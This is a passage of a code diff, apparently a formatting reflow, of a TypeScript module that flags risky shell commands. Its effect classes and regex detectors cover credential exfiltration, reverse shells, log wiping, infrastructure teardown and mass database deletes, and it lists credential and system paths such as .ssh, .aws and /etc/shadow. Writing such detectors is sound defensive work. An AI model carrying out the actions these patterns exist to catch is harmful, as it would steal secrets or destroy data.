@@ -27,9 +27,18 @@ export const EFFECT_CLASSES: EffectClass[] = [
   { key: "move_outside_workdir", description: "move files from or into a place outside the working directory" },
   { key: "overwrite_data_file", description: "truncate or overwrite a database file" },
   { key: "overwrite_outside_workdir", description: "truncate or overwrite a file outside the working directory" },
-  { key: "credential_write", description: "write or delete credentials (.aws, .kube, .gnupg, .netrc, the hermes-batch config, …)" },
-  { key: "chmod_outside_workdir", description: "change permissions or ownership outside the working directory (or set setuid)" },
-  { key: "shell_input", description: "text computed at run time fed into a shell or interpreter (| sh, <( … ), eval, source)" },
+  {
+    key: "credential_write",
+    description: "write or delete credentials (.aws, .kube, .gnupg, .netrc, the hermes-batch config, …)",
+  },
+  {
+    key: "chmod_outside_workdir",
+    description: "change permissions or ownership outside the working directory (or set setuid)",
+  },
+  {
+    key: "shell_input",
+    description: "text computed at run time fed into a shell or interpreter (| sh, <( … ), eval, source)",
+  },
   { key: "inline_code_unanalysable", description: "inline interpreter code that runs computed commands or code" },
   { key: "infra_teardown", description: "destroy infrastructure (terraform/pulumi destroy, cloud resource deletes)" },
   { key: "cluster_teardown", description: "delete cluster resources or scale them to zero" },
@@ -44,21 +53,57 @@ export const EFFECT_CLASSES: EffectClass[] = [
   { key: "crontab_replace", description: "replace the crontab" },
   { key: "kernel_change", description: "change kernel parameters or modules, or swap" },
   { key: "log_wipe", description: "erase shell history or system logs (history -c, journalctl --vacuum)" },
-  { key: "package_remove", description: "remove system packages (apt/dpkg/dnf/yum/pacman/apk/snap/rpm remove or purge)" },
+  {
+    key: "package_remove",
+    description: "remove system packages (apt/dpkg/dnf/yum/pacman/apk/snap/rpm remove or purge)",
+  },
   { key: "http_delete", description: "HTTP DELETE of a resource on another host, or of a whole index or collection" },
-  { key: "http_bulk_update", description: "HTTP PATCH or PUT of a whole collection (every record at once) on another host" },
-  { key: "remote_access", description: "give a remote host a way in: a reverse shell (a connection with a shell on it) or a reverse tunnel" },
-  { key: "boot_config", description: "change how the machine boots (default boot target, boot loader, firmware flash)" },
+  {
+    key: "http_bulk_update",
+    description: "HTTP PATCH or PUT of a whole collection (every record at once) on another host",
+  },
+  {
+    key: "remote_access",
+    description: "give a remote host a way in: a reverse shell (a connection with a shell on it) or a reverse tunnel",
+  },
+  {
+    key: "boot_config",
+    description: "change how the machine boots (default boot target, boot loader, firmware flash)",
+  },
   { key: "privilege_grant", description: "grant privileges: cloud IAM admin roles and policies, file capabilities" },
-  { key: "security_change", description: "weaken or change a security module (AppArmor, SELinux, Secure Boot, kernel lockdown)" },
+  {
+    key: "security_change",
+    description: "weaken or change a security module (AppArmor, SELinux, Secure Boot, kernel lockdown)",
+  },
   { key: "service_change", description: "restart, reload or enable a system service, or end a user's session" },
   { key: "schedule_job", description: "schedule a command to run later (at, batch, systemd timers)" },
-  { key: "resource_exhaustion", description: "exhaust the machine's disk, memory or processes (huge or endless files, memory bombs, unbounded stress or fan-out)" },
-  { key: "elevated_unreadable", description: "a program run with sudo/doas/pkexec/su or on another host whose effect is not known" },
-  { key: "infra_apply", description: "apply infrastructure changes without a reviewed plan (terraform/tofu apply -auto-approve with no saved plan)" },
-  { key: "system_install", description: "install a build into system directories (sudo make install, make install PREFIX=/usr)" },
-  { key: "credential_exfiltration", description: "send credentials or secrets off the machine (key files, cloud and cluster credentials, tokens, the environment posted, piped to a socket or copied to another host)" },
-  { key: "symlink_outside_workdir", description: "a path in the working directory that resolves, through a symlink, outside it" },
+  {
+    key: "resource_exhaustion",
+    description:
+      "exhaust the machine's disk, memory or processes (huge or endless files, memory bombs, unbounded stress or fan-out)",
+  },
+  {
+    key: "elevated_unreadable",
+    description: "a program run with sudo/doas/pkexec/su or on another host whose effect is not known",
+  },
+  {
+    key: "infra_apply",
+    description:
+      "apply infrastructure changes without a reviewed plan (terraform/tofu apply -auto-approve with no saved plan)",
+  },
+  {
+    key: "system_install",
+    description: "install a build into system directories (sudo make install, make install PREFIX=/usr)",
+  },
+  {
+    key: "credential_exfiltration",
+    description:
+      "send credentials or secrets off the machine (key files, cloud and cluster credentials, tokens, the environment posted, piped to a socket or copied to another host)",
+  },
+  {
+    key: "symlink_outside_workdir",
+    description: "a path in the working directory that resolves, through a symlink, outside it",
+  },
 ];
 
 export type Finding = EffectClass;
@@ -76,14 +121,17 @@ function finding(key: string): Finding {
 export type Where = "inside" | "scratch" | "sink" | "device" | "system" | "credential" | "home" | "outside" | "unknown";
 
 // The root, the system trees (and everything in them), and the top-level directories themselves.
-const SYSTEM_TREE = /^\/(?:etc|usr|bin|sbin|lib|lib32|lib64|libx32|boot|proc|sys|dev|var\/spool\/cron|var\/spool\/anacron)(?:\/|$)/;
+const SYSTEM_TREE =
+  /^\/(?:etc|usr|bin|sbin|lib|lib32|lib64|libx32|boot|proc|sys|dev|var\/spool\/cron|var\/spool\/anacron)(?:\/|$)/;
 const CRON_PATH = /^\/(?:etc\/(?:cron[^/]*|anacrontab)|var\/spool\/(?:cron|anacron))(?:\/|$)/;
-const SYSTEM_TOP = /^\/(?:dev|home|opt|proc|root|srv|sys|var|mnt|media|snap|run|nix|lost\+found|home|usr|etc|boot|bin|sbin|lib\w*|home\/[^/]+|var\/(?:lib|log|spool|mail|cache|backups|www)|root\/\.[^/]+)\/?\*?$/;
+const SYSTEM_TOP =
+  /^\/(?:dev|home|opt|proc|root|srv|sys|var|mnt|media|snap|run|nix|lost\+found|home|usr|etc|boot|bin|sbin|lib\w*|home\/[^/]+|var\/(?:lib|log|spool|mail|cache|backups|www)|root\/\.[^/]+)\/?\*?$/;
 const SCRATCH = /^\/(?:tmp|var\/tmp|dev\/shm)\/./;
 const SCRATCH_DIR = /^\/(?:tmp|var\/tmp|dev\/shm)\/*$/;
 const SINK = /^\/dev\/(?:null|zero|full|random|urandom|stdout|stderr|stdin|tty|fd\/\d+|pts\/\d+)$/;
 // `/dev/…/_item_`: what find's `{}` stands for under /dev (analyse.ts findItem), a device node.
-const DEVICE = /^\/dev\/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|mapper\/|disk\/|loop\d|sr\d|mtd|ubi\d|mem$|kmem$|port$|(?:[\w.-]+\/)*_item_$)/;
+const DEVICE =
+  /^\/dev\/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|mapper\/|disk\/|loop\d|sr\d|mtd|ubi\d|mem$|kmem$|port$|(?:[\w.-]+\/)*_item_$)/;
 const CREDENTIAL =
   /(?:^|\/)(?:\.ssh|\.aws|\.gnupg|\.kube|\.azure|\.docker\/config\.json|\.config\/gcloud|\.hermes-batch|\.hermes|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|\.vault-token|\.terraform\.d\/credentials)(?:\/|$)|^\/etc\/(?:shadow|gshadow|sudoers|passwd|group)(?:$|\.d|-)/;
 const HOME_RE = /^(?:~[^/]*|\$HOME|\$\{HOME\})(?=\/|$)/;
@@ -98,7 +146,8 @@ export function where(path: string, cwd: string): Where {
   if (path === "" || path === "-") return "inside";
   let p = path;
   // (`${PWD:?}` only guards against an unset PWD, which the shell always sets; `${PWD:-x}` is PWD as well.)
-  if (/^(?:\$PWD|\$\{PWD(?::?[?+-][^}]*)?\})(?=\/|$)/.test(p) && !/^\$\{PWD:?\+/.test(p)) p = "." + p.replace(/^(?:\$PWD|\$\{PWD(?::?[?-][^}]*)?\})/, "");
+  if (/^(?:\$PWD|\$\{PWD(?::?[?+-][^}]*)?\})(?=\/|$)/.test(p) && !/^\$\{PWD:?\+/.test(p))
+    p = "." + p.replace(/^(?:\$PWD|\$\{PWD(?::?[?-][^}]*)?\})/, "");
   const home = HOME_RE.exec(p);
   if (home) {
     const rest = p.slice(home[0].length).replace(/^\/+/, "");
@@ -113,7 +162,8 @@ export function where(path: string, cwd: string): Where {
   if (own !== undefined && (posix.normalize(p) + "/").startsWith(own + "/")) return "inside";
   // `..` that climbs out of it lands where a mktemp directory lives: `rm -rf "$t"/../../etc` is `/etc`.
   if (/^_mktemp_(?:\/|$)/.test(p)) p = mktempOnDisk(p);
-  if (/^_mktemp_(?:\/|$)/.test(cwd) && !/^_mktemp_(?:\/|$)/.test(posix.normalize(posix.join(cwd, p)))) cwd = mktempOnDisk(cwd);
+  if (/^_mktemp_(?:\/|$)/.test(cwd) && !/^_mktemp_(?:\/|$)/.test(posix.normalize(posix.join(cwd, p))))
+    cwd = mktempOnDisk(cwd);
   // The shell's own process id in a name (`/tmp/scratch-$$`) only makes it unique: the place is the literal part's.
   p = p.replace(/\$(?:\$|\{\$\}|BASHPID\b|\{BASHPID\}|PPID\b|\{PPID\})/g, "_pid_");
   if (/\$|`/.test(p)) return "unknown";
@@ -125,7 +175,12 @@ export function where(path: string, cwd: string): Where {
     if (cwd.startsWith("$")) return "unknown";
     const rel = posix.normalize(posix.join(cwd, p));
     if (rel === ".." || rel.startsWith("../")) return "outside";
-    if (CREDENTIAL.test(rel) && /(?:^|\/)\.(?:ssh|aws|gnupg|kube|hermes-batch)(?:\/|$)/.test(rel) && rel.startsWith(".")) return "credential";
+    if (
+      CREDENTIAL.test(rel) &&
+      /(?:^|\/)\.(?:ssh|aws|gnupg|kube|hermes-batch)(?:\/|$)/.test(rel) &&
+      rel.startsWith(".")
+    )
+      return "credential";
     return "inside";
   }
   abs = abs.replace(/\/+$/, "") || "/";
@@ -138,7 +193,11 @@ export function where(path: string, cwd: string): Where {
 }
 
 /** `where`, with absolute paths under the task's working directory counted as inside. */
-function whereIn(ctx: { cwd: string; root?: string; links?: Map<string, string> }, path: string, follow = false): Where {
+function whereIn(
+  ctx: { cwd: string; root?: string; links?: Map<string, string> },
+  path: string,
+  follow = false,
+): Where {
   path = throughLinks(ctx, path, follow);
   const w = where(path, ctx.cwd);
   // (A path from a mktemp directory is not under the working directory: `_mktemp_/…` is a marker, not a folder.)
@@ -174,14 +233,25 @@ function throughLinks(ctx: { cwd: string; links?: Map<string, string> }, path: s
 }
 
 function linkKey(ctx: { cwd: string }, path: string): string {
-  return posix.normalize(path.startsWith("/") || ctx.cwd === "." || /^[~$]/.test(path) ? path : posix.join(ctx.cwd, path)).replace(/\/+$/, "") || "/";
+  return (
+    posix
+      .normalize(path.startsWith("/") || ctx.cwd === "." || /^[~$]/.test(path) ? path : posix.join(ctx.cwd, path))
+      .replace(/\/+$/, "") || "/"
+  );
 }
 
 /** The path relative to the task's working directory ("" for the directory itself), when that can be computed. */
 function rootRelative(ctx: { cwd: string; root?: string }, path: string): string | null {
   if (/^[~$]/.test(path) || /^[~$]/.test(ctx.cwd)) return null;
-  if (!ctx.root) return path.startsWith("/") || ctx.cwd.startsWith("/") ? null : posix.normalize(posix.join(ctx.cwd, path)).replace(/^\.$/, "");
-  const abs = path.startsWith("/") ? posix.normalize(path) : ctx.cwd.startsWith("/") ? posix.join(ctx.cwd, path) : posix.join(ctx.root, ctx.cwd, path);
+  if (!ctx.root)
+    return path.startsWith("/") || ctx.cwd.startsWith("/")
+      ? null
+      : posix.normalize(posix.join(ctx.cwd, path)).replace(/^\.$/, "");
+  const abs = path.startsWith("/")
+    ? posix.normalize(path)
+    : ctx.cwd.startsWith("/")
+      ? posix.join(ctx.cwd, path)
+      : posix.join(ctx.root, ctx.cwd, path);
   return posix.relative(ctx.root, abs);
 }
 
@@ -191,7 +261,8 @@ function wholeWorkdir(ctx: { cwd: string; root?: string }, path: string): boolea
   return rel !== null && /^(?:\.?\/*|\*|\.\*)$/.test(rel);
 }
 
-const DATA_FILE = /\.(?:db|sqlite3?|db3|mdb|accdb|ibd|frm|myd|myi|mdf|ldf|ndf|dbf|realm|leveldb|rdb|aof|wal)$|(?:^|\/)(?:ibdata\d*|ib_logfile\d*|pg_wal|PG_VERSION)$|^\/var\/lib\/(?:mysql|postgresql|pgsql|mongodb|redis|cassandra|elasticsearch)\//i;
+const DATA_FILE =
+  /\.(?:db|sqlite3?|db3|mdb|accdb|ibd|frm|myd|myi|mdf|ldf|ndf|dbf|realm|leveldb|rdb|aof|wal)$|(?:^|\/)(?:ibdata\d*|ib_logfile\d*|pg_wal|PG_VERSION)$|^\/var\/lib\/(?:mysql|postgresql|pgsql|mongodb|redis|cassandra|elasticsearch)\//i;
 
 // ---------------------------------------------------------------------------------------------
 // The command as judge sees it
@@ -261,7 +332,21 @@ export interface JudgeContext {
   tfArgs?: boolean;
 }
 
-const SHELLS = new Set(["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "yash", "fish", "tcsh", "csh", "rbash", "busybox"]);
+const SHELLS = new Set([
+  "sh",
+  "bash",
+  "zsh",
+  "dash",
+  "ksh",
+  "ash",
+  "mksh",
+  "yash",
+  "fish",
+  "tcsh",
+  "csh",
+  "rbash",
+  "busybox",
+]);
 
 export function interpreterLanguage(name: string): CodeLanguage | null {
   if (/^python[\d.]*$|^pypy[\d.]*$/.test(name)) return "python";
@@ -314,7 +399,14 @@ function operands(args: JudgedArg[], valueOpts = "", longValueOpts: string[] = [
 }
 
 const hasFlag = (args: JudgedArg[], short: string, long: string[] = []): boolean =>
-  args.some((a) => (a.text.startsWith("-") && !a.text.startsWith("--") && a.text.length > 1 && [...short].some((c) => a.text.slice(1).includes(c))) || long.some((l) => a.text === l || a.text.startsWith(l + "=")));
+  args.some(
+    (a) =>
+      (a.text.startsWith("-") &&
+        !a.text.startsWith("--") &&
+        a.text.length > 1 &&
+        [...short].some((c) => a.text.slice(1).includes(c))) ||
+      long.some((l) => a.text === l || a.text.startsWith(l + "=")),
+  );
 
 const isInsideLike = (w: Where) => w === "inside" || w === "scratch" || w === "sink";
 
@@ -344,7 +436,8 @@ function judgeDelete(ctx: JudgeContext, path: string, recursive: boolean): void 
 function madeHere(ctx: JudgeContext, path: string): boolean {
   if (/[*?[]/.test(path)) return false;
   const abs = posix.normalize(path).replace(/\/+$/, "");
-  for (const c of ctx.created) if (c.startsWith("dir:") && (abs === c.slice(4) || abs.startsWith(c.slice(4) + "/"))) return true;
+  for (const c of ctx.created)
+    if (c.startsWith("dir:") && (abs === c.slice(4) || abs.startsWith(c.slice(4) + "/"))) return true;
   return false;
 }
 
@@ -359,11 +452,17 @@ function judgeOverwrite(ctx: JudgeContext, path: string, append = false): void {
     if (/(?:^|\/)\.ssh(?:\/|$)/.test(path)) return add(ctx, "ssh_config_write");
     return add(ctx, /^\/etc\//.test(path) ? "system_config_write" : "credential_write");
   }
-  if (/(?:^|\/)\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|tcshrc|inputrc|xprofile|xinitrc|pam_environment|bash_aliases|zsh_aliases|aliases|bash_functions|(?:bash|zsh)rc\.local)$|(?:^|\/)\.(?:bashrc\.d|zshrc\.d|config\/fish\/conf\.d|oh-my-zsh\/custom|config\/autostart)\/[^/]+$/.test(path) && w !== "inside")
+  if (
+    /(?:^|\/)\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|tcshrc|inputrc|xprofile|xinitrc|pam_environment|bash_aliases|zsh_aliases|aliases|bash_functions|(?:bash|zsh)rc\.local)$|(?:^|\/)\.(?:bashrc\.d|zshrc\.d|config\/fish\/conf\.d|oh-my-zsh\/custom|config\/autostart)\/[^/]+$/.test(
+      path,
+    ) &&
+    w !== "inside"
+  )
     return add(ctx, "shell_rc_write");
   if (w === "system") {
     if (CRON_PATH.test(path)) return add(ctx, "crontab_replace");
-    if (/^\/(?:proc|sys)\//.test(path) || /^\/(?:etc|boot|usr|bin|sbin|lib)/.test(path)) return add(ctx, "system_config_write");
+    if (/^\/(?:proc|sys)\//.test(path) || /^\/(?:etc|boot|usr|bin|sbin|lib)/.test(path))
+      return add(ctx, "system_config_write");
     return add(ctx, "overwrite_outside_workdir");
   }
   if (DATA_FILE.test(path) && !append) return add(ctx, "overwrite_data_file");
@@ -375,8 +474,10 @@ function judgeMove(ctx: JudgeContext, sources: string[], dest: string | undefine
   for (const s of sources) {
     const w = whereIn(ctx, s);
     noteInside(ctx, s);
-    if (w === "system" || w === "credential") return add(ctx, w === "credential" ? "credential_write" : "move_system_path");
-    if (w === "outside" || w === "home" || (w === "unknown" && /^\$|^~/.test(s))) return add(ctx, "move_outside_workdir");
+    if (w === "system" || w === "credential")
+      return add(ctx, w === "credential" ? "credential_write" : "move_system_path");
+    if (w === "outside" || w === "home" || (w === "unknown" && /^\$|^~/.test(s)))
+      return add(ctx, "move_outside_workdir");
   }
   if (dest !== undefined && !SCRATCH_DIR.test(dest)) {
     if (dest === "/dev/null") return add(ctx, "move_to_dev_null");
@@ -393,7 +494,12 @@ function rememberLink(ctx: JudgeContext, args: JudgedArg[], sources: string[], d
   const symbolic = hasFlag(args, "s", ["--symbolic"]);
   const name = /\/$/.test(dest) || dest === "." || dest === ".." ? posix.join(dest, posix.basename(target)) : dest;
   const key = linkKey(ctx, name);
-  const resolved = target.startsWith("/") || /^[~$]/.test(target) ? target : symbolic ? posix.join(posix.dirname(key), target) : linkKey(ctx, target);
+  const resolved =
+    target.startsWith("/") || /^[~$]/.test(target)
+      ? target
+      : symbolic
+        ? posix.join(posix.dirname(key), target)
+        : linkKey(ctx, target);
   ctx.links.set(key, resolved);
 }
 
@@ -402,16 +508,34 @@ function judgeChmod(ctx: JudgeContext, name: string): void {
   const reference = ctx.args.some((a) => a.text === "--reference" || a.text.startsWith("--reference="));
   const modeless = reference ? 0 : name === "chown" || name === "chgrp" ? 1 : name === "chmod" ? 1 : 0;
   // A chmod mode that starts with `-` (`chmod -x file`, `chmod -w,o-r f`) is the mode operand, not an option.
-  const args = name === "chmod" ? ctx.args.map((a) => (/^-[rwxXst]+(?:,[ugoa]*[-+=][rwxXst]*)*$/.test(a.text) && !/^-[R]/.test(a.text) ? { ...a, text: "u" + a.text } : a)) : ctx.args;
+  const args =
+    name === "chmod"
+      ? ctx.args.map((a) =>
+          /^-[rwxXst]+(?:,[ugoa]*[-+=][rwxXst]*)*$/.test(a.text) && !/^-[R]/.test(a.text)
+            ? { ...a, text: "u" + a.text }
+            : a,
+        )
+      : ctx.args;
   const ops = operands(args, name === "setfacl" ? "mMxXb" : "", ["--reference", "--from"]);
   // setuid/setgid: a privilege change wherever the file is
   // (setgid alone on directories inside the working directory only makes new files inherit their group.)
   const setgidOnly = ops[0] && (/^g[+=][rwxXt]*s[rwxXt]*$/.test(ops[0].text) || /^2[0-7]{3}$/.test(ops[0].text));
-  if (name === "chmod" && ops[0] && /^[ugoa]*[+=][rwxXt]*s|^[2467][0-7]{3}$/.test(ops[0].text) && !(setgidOnly && ops.length > 1 && ops.slice(1).every((o) => whereIn(ctx, o.text) === "inside" && !/\.(?:sh|py|pl|rb|bin|exe|so)$/.test(o.text)))) return add(ctx, "chmod_outside_workdir");
+  if (
+    name === "chmod" &&
+    ops[0] &&
+    /^[ugoa]*[+=][rwxXt]*s|^[2467][0-7]{3}$/.test(ops[0].text) &&
+    !(
+      setgidOnly &&
+      ops.length > 1 &&
+      ops.slice(1).every((o) => whereIn(ctx, o.text) === "inside" && !/\.(?:sh|py|pl|rb|bin|exe|so)$/.test(o.text))
+    )
+  )
+    return add(ctx, "chmod_outside_workdir");
   for (const t of ops.slice(modeless)) {
     const w = whereIn(ctx, t.text, !hasFlag(args, "h", ["--no-dereference"]));
     noteInside(ctx, t.text);
-    if (w === "system" || w === "credential" || w === "device" || (w === "sink" && /^\/dev\//.test(t.text))) return add(ctx, "chmod_chown_system");
+    if (w === "system" || w === "credential" || w === "device" || (w === "sink" && /^\/dev\//.test(t.text)))
+      return add(ctx, "chmod_chown_system");
     if (w === "outside" || w === "home") return add(ctx, "chmod_outside_workdir");
   }
 }
@@ -421,13 +545,28 @@ function judgeChmod(ctx: JudgeContext, name: string): void {
 
 /** Backslash escapes as printf (and echo -e) decode them: \n, \t, \\, \xHH, \NNN, \0NNN, … */
 function decodeEscapes(s: string): string {
-  return s.replace(/\\(?:x([0-9a-fA-F]{1,2})|0?([0-7]{1,3})|([abefnrtv\\"'])|u([0-9a-fA-F]{1,4}))/g, (m, hex?: string, oct?: string, simple?: string, uni?: string) => {
-    if (hex) return String.fromCharCode(parseInt(hex, 16));
-    if (oct) return String.fromCharCode(parseInt(oct, 8) & 0xff);
-    if (uni) return String.fromCharCode(parseInt(uni, 16));
-    const map: Record<string, string> = { a: "\x07", b: "\b", e: "\x1b", f: "\f", n: "\n", r: "\r", t: "\t", v: "\v", "\\": "\\", '"': '"', "'": "'" };
-    return map[simple!] ?? m;
-  });
+  return s.replace(
+    /\\(?:x([0-9a-fA-F]{1,2})|0?([0-7]{1,3})|([abefnrtv\\"'])|u([0-9a-fA-F]{1,4}))/g,
+    (m, hex?: string, oct?: string, simple?: string, uni?: string) => {
+      if (hex) return String.fromCharCode(parseInt(hex, 16));
+      if (oct) return String.fromCharCode(parseInt(oct, 8) & 0xff);
+      if (uni) return String.fromCharCode(parseInt(uni, 16));
+      const map: Record<string, string> = {
+        a: "\x07",
+        b: "\b",
+        e: "\x1b",
+        f: "\f",
+        n: "\n",
+        r: "\r",
+        t: "\t",
+        v: "\v",
+        "\\": "\\",
+        '"': '"',
+        "'": "'",
+      };
+      return map[simple!] ?? m;
+    },
+  );
 }
 
 /** The literal text a producer writes, when it is a literal (echo/printf/cat here-doc). */
@@ -455,12 +594,14 @@ export function producedLiteral(p: Producer): string | null {
     let k = 0;
     for (let round = 0; round < 64; round++) {
       let used = false;
-      out += decodeEscapes(fmt.replace(conversion, (_m, conv: string) => {
-        if (conv === "%") return "%";
-        used = true;
-        const v = rest[k++] ?? "";
-        return conv === "b" ? decodeEscapes(v) : v.replace(/\\/g, "\\\\");
-      }));
+      out += decodeEscapes(
+        fmt.replace(conversion, (_m, conv: string) => {
+          if (conv === "%") return "%";
+          used = true;
+          const v = rest[k++] ?? "";
+          return conv === "b" ? decodeEscapes(v) : v.replace(/\\/g, "\\\\");
+        }),
+      );
       if (!used || k >= rest.length) break;
     }
     return out;
@@ -481,16 +622,56 @@ function ormEffects(code: string): string[] {
   if (codeExfiltrates(code)) keys.push("credential_exfiltration");
   // Cloud storage SDKs deleting object by object or whole buckets (`[b.delete() for b in bucket.list_blobs()]`,
   // `bucket.objects.all().delete()`, `s3.delete_objects(…)`, `container.delete_blobs(…)`).
-  if (/\b(?:google\.cloud|storage\.Client|boto3|botocore|s3fs|gcsfs|azure\.storage|BlobServiceClient|ContainerClient|minio|Minio|@aws-sdk|aws-sdk|@google-cloud\/storage|Aws::S3)\b/.test(code) && (/\.(?:delete_objects|delete_bucket|delete_blobs|remove_objects|remove_bucket|deleteObjects|deleteBucket|deleteFiles|delete_container|rm)\s*\(|\.objects\.(?:all\(\)|filter\([^)]*\))\.delete\(|\.object_versions\.(?:all\(\)|filter\([^)]*\))\.delete\(|DeleteObjectsCommand|DeleteBucketCommand/.test(code) || (/\.(?:delete|delete_blob|remove_object|deleteObject)\s*\(/.test(code) && /\bfor\b|\.forEach\(|\.map\(|\bmap\(/.test(code)))) keys.push("cloud_storage_delete");
-  if (/\b[A-Z][\w:]*(?:\.(?:all|unscoped))?(?:\(\))?\.(?:delete_all|destroy_all)\b(?!\s*\(\s*[^)\s])/.test(code) || (/\.objects(?:\.all\(\))?\.delete\(\)/.test(code) && !keys.includes("cloud_storage_delete")) || /\.query\(\s*\w+\s*\)\.delete\(/.test(code) || /\.\w+\.deleteMany\(\s*(?:\{\s*\})?\s*\)/.test(code) || /\.destroy\(\s*\{\s*(?:where\s*:\s*\{\s*\}|truncate\s*:\s*true)/.test(code) || /\.(?:delete_many|remove)\(\s*\{\s*\}\s*\)/.test(code)) keys.push("sql_delete_without_where");
+  if (
+    /\b(?:google\.cloud|storage\.Client|boto3|botocore|s3fs|gcsfs|azure\.storage|BlobServiceClient|ContainerClient|minio|Minio|@aws-sdk|aws-sdk|@google-cloud\/storage|Aws::S3)\b/.test(
+      code,
+    ) &&
+    (/\.(?:delete_objects|delete_bucket|delete_blobs|remove_objects|remove_bucket|deleteObjects|deleteBucket|deleteFiles|delete_container|rm)\s*\(|\.objects\.(?:all\(\)|filter\([^)]*\))\.delete\(|\.object_versions\.(?:all\(\)|filter\([^)]*\))\.delete\(|DeleteObjectsCommand|DeleteBucketCommand/.test(
+      code,
+    ) ||
+      (/\.(?:delete|delete_blob|remove_object|deleteObject)\s*\(/.test(code) &&
+        /\bfor\b|\.forEach\(|\.map\(|\bmap\(/.test(code)))
+  )
+    keys.push("cloud_storage_delete");
+  if (
+    /\b[A-Z][\w:]*(?:\.(?:all|unscoped))?(?:\(\))?\.(?:delete_all|destroy_all)\b(?!\s*\(\s*[^)\s])/.test(code) ||
+    (/\.objects(?:\.all\(\))?\.delete\(\)/.test(code) && !keys.includes("cloud_storage_delete")) ||
+    /\.query\(\s*\w+\s*\)\.delete\(/.test(code) ||
+    /\.\w+\.deleteMany\(\s*(?:\{\s*\})?\s*\)/.test(code) ||
+    /\.destroy\(\s*\{\s*(?:where\s*:\s*\{\s*\}|truncate\s*:\s*true)/.test(code) ||
+    /\.(?:delete_many|remove)\(\s*\{\s*\}\s*\)/.test(code)
+  )
+    keys.push("sql_delete_without_where");
   // Flask-SQLAlchemy `Model.query.delete()` (no filter between), SQLAlchemy 2 `session.execute(delete(Model))`, peewee
   // `Model.delete().execute()`, Tortoise `Model.all().delete()`: every row.
-  if (/\b[A-Z]\w*\.query\.delete\(/.test(code) || /\.execute\(\s*(?:sa\.|sqlalchemy\.)?delete\(\s*[A-Z][\w.]*\s*\)\s*\)/.test(code) || /\b[A-Z]\w*\.delete\(\s*\)\s*\.execute\(/.test(code) || /\b[A-Z]\w*\.all\(\)\.delete\(\s*\)/.test(code)) keys.push("sql_delete_without_where");
+  if (
+    /\b[A-Z]\w*\.query\.delete\(/.test(code) ||
+    /\.execute\(\s*(?:sa\.|sqlalchemy\.)?delete\(\s*[A-Z][\w.]*\s*\)\s*\)/.test(code) ||
+    /\b[A-Z]\w*\.delete\(\s*\)\s*\.execute\(/.test(code) ||
+    /\b[A-Z]\w*\.all\(\)\.delete\(\s*\)/.test(code)
+  )
+    keys.push("sql_delete_without_where");
   // More drivers and ORMs: knex `knex("t").del()` / `.truncate()` straight on the table, Ecto `Repo.delete_all(Schema)`,
   // Eloquent `Model::query()->delete()` / `Model::truncate()` / `DB::table('t')->delete()`.
-  if (/\(\s*['"][\w.]+['"]\s*\)\s*\.(?:del|delete|truncate)\(\s*\)/.test(code) || /\bRepo\.delete_all\s*\(\s*[A-Z][\w.]*\s*[,)]/.test(code) || /\b[A-Z]\w*(?:\\\w+)*::(?:query\(\)\s*->\s*(?:delete|forceDelete)|truncate)\(\s*\)/.test(code) || /\bDB::table\([^)]*\)\s*->\s*(?:delete|truncate)\(\s*\)/.test(code)) keys.push("sql_delete_without_where");
-  if (/\b[A-Z][\w:]*(?:\.all)?\.update_all\(/.test(code) || /\.objects(?:\.all\(\))?\.update\(/.test(code) || /\.\w+\.updateMany\(\s*\{\s*(?:data\b|\}\s*,)/.test(code)) keys.push("sql_update_without_where");
-  if (/\bmetadata\.drop_all\(|\.drop_(?:collection|database|table)\(|\.dropDatabase\(|\bdrop_table\b|\bsequelize\.drop\(|\.sync\(\s*\{\s*force\s*:\s*true|\bcall_command\(\s*['"](?:flush|reset_db)['"]/.test(code)) keys.push("sql_drop");
+  if (
+    /\(\s*['"][\w.]+['"]\s*\)\s*\.(?:del|delete|truncate)\(\s*\)/.test(code) ||
+    /\bRepo\.delete_all\s*\(\s*[A-Z][\w.]*\s*[,)]/.test(code) ||
+    /\b[A-Z]\w*(?:\\\w+)*::(?:query\(\)\s*->\s*(?:delete|forceDelete)|truncate)\(\s*\)/.test(code) ||
+    /\bDB::table\([^)]*\)\s*->\s*(?:delete|truncate)\(\s*\)/.test(code)
+  )
+    keys.push("sql_delete_without_where");
+  if (
+    /\b[A-Z][\w:]*(?:\.all)?\.update_all\(/.test(code) ||
+    /\.objects(?:\.all\(\))?\.update\(/.test(code) ||
+    /\.\w+\.updateMany\(\s*\{\s*(?:data\b|\}\s*,)/.test(code)
+  )
+    keys.push("sql_update_without_where");
+  if (
+    /\bmetadata\.drop_all\(|\.drop_(?:collection|database|table)\(|\.dropDatabase\(|\bdrop_table\b|\bsequelize\.drop\(|\.sync\(\s*\{\s*force\s*:\s*true|\bcall_command\(\s*['"](?:flush|reset_db)['"]/.test(
+      code,
+    )
+  )
+    keys.push("sql_drop");
   return keys;
 }
 
@@ -534,7 +715,13 @@ function analyseInlineCode(lang: CodeLanguage, code: string, ctx: JudgeContext, 
         break;
       case "sql":
         // A sqlite file inside the working directory holds the task's own tables (as for the sqlite3 client).
-        if (a.db !== undefined && ctx.root && (a.db === ":memory:" || whereIn(ctx, a.db) === "inside") && !/\battach\b|\bvacuum\s+into\b/i.test(a.sql)) break;
+        if (
+          a.db !== undefined &&
+          ctx.root &&
+          (a.db === ":memory:" || whereIn(ctx, a.db) === "inside") &&
+          !/\battach\b|\bvacuum\s+into\b/i.test(a.sql)
+        )
+          break;
         for (const key of judgeSql(a.sql)) add(ctx, key);
         break;
       case "flush":
@@ -551,7 +738,12 @@ function analyseInlineCode(lang: CodeLanguage, code: string, ctx: JudgeContext, 
 
 function noteInside(ctx: JudgeContext, path: string): void {
   if (whereIn(ctx, path) !== "inside" || ctx.insideTargets.length >= 64) return;
-  const rel = path.startsWith("/") || ctx.cwd.startsWith("/") ? (ctx.root ? posix.relative(ctx.root, posix.resolve(ctx.cwd.startsWith("/") ? ctx.cwd : "/", path)) : null) : posix.normalize(posix.join(ctx.cwd, path));
+  const rel =
+    path.startsWith("/") || ctx.cwd.startsWith("/")
+      ? ctx.root
